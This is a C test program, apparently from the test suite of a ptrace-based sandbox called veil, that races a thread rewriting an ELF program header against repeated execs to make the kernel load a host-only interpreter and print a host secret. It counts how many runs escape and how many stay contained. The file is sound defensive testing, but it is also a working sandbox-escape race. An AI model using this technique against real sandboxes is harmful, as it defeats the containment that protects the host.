/* elf_race HOSTINTERP DIR ROUNDS [LOADER]: a thread flips the first program header
 * of DIR/flip between PT_NULL (a static program that prints "CONTAINED") and
 * PT_INTERP naming HOSTINTERP (a host-only interpreter that prints the host
 * secret, elf_fields payload), while the main thread execs DIR/flip ROUNDS times.
 * With LOADER (a loader at the same path in the guest and on the host, as under
 * a bind of its directory), the header flips between PT_INTERP LOADER and
 * PT_INTERP HOSTINTERP instead.
 * A tracer that reads the header at exec entry and lets the kernel read it again
 * loses this race: it saw a static program (or the guest's loader), the kernel
 * loads the host's interpreter.
 * Prints the interpreter's own lines when it runs, then
 *   host=N guest=N killed=N crashed=N errors=N
 * Natively: host > 0 (the PT_INTERP version simply runs).
 * Under veil: host=0; the PT_INTERP version is refused (the interpreter is looked
 * for in the guest), and an exec that lost the race is killed before its first
 * instruction (SIGKILL, reported).  Started through the guest's loader, a program
 * is mapped by the loader, not exec'd, so the kernel does not refuse the flipper's
 * writes meanwhile (ETXTBSY) and a half-flipped file may crash (crashed=N).
 */
#include "esc.h"
#include "elfcraft.h"
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/wait.h>

static char path[4096];
static atomic_int done;
static long flips;
static uint64_t flip[2], flip_at; /* the two values of the 8 bytes at flip_at */

static void *flipper(void *arg)
{
    (void)arg;
    for (unsigned i = 0; !atomic_load(&done); i++) {
        int fd = open(path, O_WRONLY);
        if (fd < 0)
            continue; /* being executed (ETXTBSY) */
        if (pwrite(fd, &flip[i & 1], 8, (off_t)flip_at) == 8)
            flips++;
        close(fd);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 4 && argc != 5)
        return 2;
    const char *loader = argc == 5 ? argv[4] : NULL;
    const char *interp = argv[1];
    int rounds = atoi(argv[3]);
    snprintf(path, sizeof path, "%s/flip", argv[2]);

    static struct img m;
    Elf64_Ehdr eh = elf64_header(2);
    Elf64_Phdr ph[2];
    memset(ph, 0, sizeof ph);
    put(&m, &eh, sizeof eh);
    put(&m, ph, sizeof ph);
    /* two slots of the same size: the kernel reads the path up to its first NUL */
    char slot[2][1024];
    memset(slot, 0, sizeof slot);
    snprintf(slot[0], sizeof slot[0], "%s", loader ? loader : "");
    snprintf(slot[1], sizeof slot[1], "%s", interp);
    size_t at0 = put(&m, slot[0], sizeof slot[0]), at1 = put(&m, slot[1], sizeof slot[1]);
    if (loader) { /* flip p_offset */
        ph[0].p_type = PT_INTERP;
        flip[0] = at0, flip[1] = at1;
        flip_at = sizeof eh + offsetof(Elf64_Phdr, p_offset);
    } else { /* flip p_type (and p_flags, 0) */
        flip[0] = PT_NULL, flip[1] = PT_INTERP;
        flip_at = sizeof eh + offsetof(Elf64_Phdr, p_type);
    }
    ph[0].p_offset = at1;
    ph[0].p_filesz = ph[0].p_memsz = sizeof slot[1];
    ph[0].p_align = 1;
    size_t entry = put_code(&m, 0, 0, "race = CONTAINED static\n");
    ph[1].p_type = PT_LOAD, ph[1].p_vaddr = ph[1].p_paddr = BASE;
    ph[1].p_filesz = ph[1].p_memsz = m.n, ph[1].p_flags = PF_R | PF_X, ph[1].p_align = 0x1000;
    eh.e_entry = BASE + entry;
    memcpy(m.b, &eh, sizeof eh);
    memcpy(m.b + sizeof eh, ph, sizeof ph);
    save(path, &m);

    pthread_t th;
    if (pthread_create(&th, NULL, flipper, NULL) != 0)
        return 1;
    int host = 0, guest = 0, killed = 0, crashed = 0, errors = 0;
    for (int i = 0; i < rounds; i++) {
        int p[2];
        if (pipe(p) < 0)
            return 1;
        pid_t pid = fork();
        if (pid == 0) {
            dup2(p[1], 1);
            char *av[] = {"race", NULL}, *ev[] = {NULL};
            execve(path, av, ev);
            _exit(100 + errno);
        }
        close(p[1]);
        char buf[512];
        ssize_t n = read(p[0], buf, sizeof buf - 1);
        close(p[0]);
        buf[n > 0 ? n : 0] = 0;
        int st = 0;
        if (pid < 0 || waitpid(pid, &st, 0) < 0)
            return 1;
        if (strstr(buf, "ESCAPED")) {
            host++;
            if (host <= 3)
                printf("%s", buf); /* the secret, as the host's interpreter printed it */
        } else if (strstr(buf, "CONTAINED"))
            guest++;
        else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
            killed++;
        else if (WIFSIGNALED(st))
            crashed++; /* another signal: a program file mapped while it was rewritten */
        else
            errors++;
    }
    atomic_store(&done, 1);
    pthread_join(th, NULL);
    printf("host=%d guest=%d killed=%d crashed=%d errors=%d flips=%ld\n", host, guest, killed,
           crashed, errors, flips);
    return 0;
}
